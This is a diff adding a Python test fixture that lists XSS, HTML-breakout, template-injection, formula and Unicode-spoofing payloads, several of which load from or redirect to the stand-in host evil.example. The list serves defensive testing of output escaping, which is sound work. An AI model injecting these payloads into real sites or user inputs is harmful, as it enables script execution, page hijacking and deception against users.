@@ -1,0 +1,71 @@
+"""Texts that would run, break out or mislead if a page took them for anything but texts; any test may try them."""
+
+from __future__ import annotations
+
+RUN = "window.hit=1;alert(1)"  # what a payload tries to do: a test looks for window.hit, dialogs and requests
+
+PAYLOADS = (
+    # elements and attributes
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</SCRIPT ><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><svg onload='{RUN}'>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{RUN}></iframe>",
+    "<object data=https://evil.example/x></object>",
+    "<embed src=https://evil.example/x>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<input autofocus onfocus={RUN}>",
+    f'" onmouseover="{RUN}" x="',
+    f"' autofocus onfocus='{RUN}",
+    f"<a href='javascript:{RUN}'>href</a>",
+    f"<form action='javascript:{RUN}'><button>x</button></form>",
+    f"<template><img src=x onerror={RUN}></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<textarea></textarea><img src=x onerror={RUN}>",
+    f"<title></title><img src=x onerror={RUN}>",
+    # the ends of what a text may stand in
+    "<!--<script>",
+    "--><script>",
+    "]]><script>",
+    f"</style><img src=x onerror={RUN}>",
+    f"</textarea><img src=x onerror={RUN}>",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    # addresses
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    "//evil.example/x",
+    'https://evil.example/" onclick="alert(1)',
+    # templates, formats, scripts
+    "{{7*7}}{% raw %}${alert(1)}",
+    "{{ ''.__class__.__mro__ }}",
+    f"'-({RUN})-'",
+    f"`${{{RUN}}}`",
+    '=HYPERLINK("https://evil.example")',
+    "@import url(https://evil.example)",
+    # names that objects have already, and letters that deceive
+    "__proto__",
+    "constructor",
+    "toString",
+    "\u2028alert(1)\u2029",
+    "\x00\x07\x1b\u202e\ud800",
+    "\u202egpj.exe\u2066",
+    "a\u0300" * 200,
+    "\ufeff\u200b\u00a0",
+    "W" * 5000,
+    "[(*+?^$|\\",
+)
